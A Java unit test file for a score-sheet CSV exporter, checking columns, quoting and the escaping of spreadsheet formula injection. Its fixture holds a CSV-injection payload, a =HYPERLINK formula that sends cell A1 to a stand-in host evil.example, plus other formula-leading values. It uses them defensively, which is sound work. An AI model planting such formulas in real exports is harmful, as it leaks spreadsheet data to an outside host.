package org.twinlab.scenarios.score;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.twinlab.scenarios.model.CheckDef;

/** The one CSV form of score sheets: its columns, its quoting, and text that must never run in a spreadsheet. */
class ScoreSheetCsvTest {
  private static final String HOSTILE_NAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\"), Bob \"the\" Lee\nsecond line";

  private static ScoreSheet sheet(String because) {
    List<CheckScore> checks = List.of(
        new CheckScore("estop", "t1", CheckDef.Kind.MEASUREMENT, "4-04-05-10 L4 3.1.2", "operation", 2, 2.0, CheckScore.Status.PASSED,
            because),
        new CheckScore("record", "t1", CheckDef.Kind.JUDGEMENT, "4-04-05-10 L4 3.2.2", "testing", 3, null, CheckScore.Status.UNMARKED,
            ""));
    return new ScoreSheet("tank-estop", 2, "L4", checks, List.of(), List.of(), 40.0, 60, false);
  }

  private static List<CSVRecord> parse(String csv) throws Exception {
    assertThat(csv).startsWith("\uFEFF");
    return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv.substring(1))).getRecords();
  }

  @Test
  void aDryRunSheetHasEveryColumnAndNoSitting() throws Exception {
    StringBuilder out = new StringBuilder();
    ScoreSheetCsv.write(sheet("true at +12.0 s"), out);
    assertThat(out.toString().lines().findFirst().orElseThrow()).isEqualTo("\uFEFF" + String.join(",", ScoreSheetCsv.COLUMNS));
    assertThat(out.toString()).contains("\r\n");
    List<CSVRecord> rows = parse(out.toString());
    assertThat(rows).hasSize(2);
    CSVRecord estop = rows.get(0);
    assertThat(estop.get("session")).isEmpty();
    assertThat(estop.get("candidate")).isEmpty();
    assertThat(List.of(estop.get("scenario"), estop.get("version"), estop.get("level"), estop.get("task"), estop.get("function"),
        estop.get("clause"), estop.get("check"), estop.get("kind"), estop.get("points"), estop.get("earned"), estop.get("status"),
        estop.get("because"), estop.get("total"), estop.get("pass_mark"), estop.get("passed"), estop.get("provisional")))
        .containsExactly("tank-estop", "2", "L4", "t1", "operation", "4-04-05-10 L4 3.1.2", "estop", "measurement", "2", "2", "passed",
            "true at +12.0 s", "40", "60", "false", "true");
    assertThat(rows.get(1).get("earned")).as("not scored yet").isEmpty();
    assertThat(rows.get(1).get("kind")).isEqualTo("judgement");
  }

  @Test
  void aHostileNameAndReportAreQuotedAndNeverRun() throws Exception {
    ScoreSheetCsv.Sitting who = new ScoreSheetCsv.Sitting("exam-1", "s1", "cand1", HOSTILE_NAME,
        Map.of("record", Map.of("@exam2", 1, "exam1", 3)), "+exam1 (examiner) export: done");
    String csv = ScoreSheetCsv.of(List.of(new ScoreSheetCsv.Entry(who, sheet("-2+3, reported \"pump, jammed\"\r\n=1+1"))));
    List<CSVRecord> rows = parse(csv);
    assertThat(rows).hasSize(2).allSatisfy(r -> assertThat(r.size()).isEqualTo(ScoreSheetCsv.COLUMNS.size()));
    CSVRecord first = rows.get(0);
    assertThat(first.get("candidate_name")).isEqualTo("'" + HOSTILE_NAME);
    assertThat(first.get("because")).isEqualTo("'-2+3, reported \"pump, jammed\"\r\n=1+1");
    assertThat(first.get("interventions")).isEqualTo("'+exam1 (examiner) export: done");
    assertThat(rows.get(1).get("examiner_marks")).isEqualTo("'@exam2=1; exam1=3");
    assertThat(first.get("session")).isEqualTo("exam-1");
    // no cell, as the file holds it, begins with a character a spreadsheet runs
    for (CSVRecord r : rows) {
      for (String cell : r) assertThat(cell).as(r.toString()).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@");
    }
    assertThat(csv).doesNotContain(",=").doesNotContain(",+").doesNotContain(",@").doesNotContain(",\"=");
  }

  @Test
  void onlyTextIsEscaped() {
    assertThat(ScoreSheetCsv.text("=1")).isEqualTo("'=1");
    assertThat(ScoreSheetCsv.text("\tx")).isEqualTo("'\tx");
    assertThat(ScoreSheetCsv.text("a=1")).isEqualTo("a=1");
    assertThat(ScoreSheetCsv.text(null)).isEmpty();
  }
}
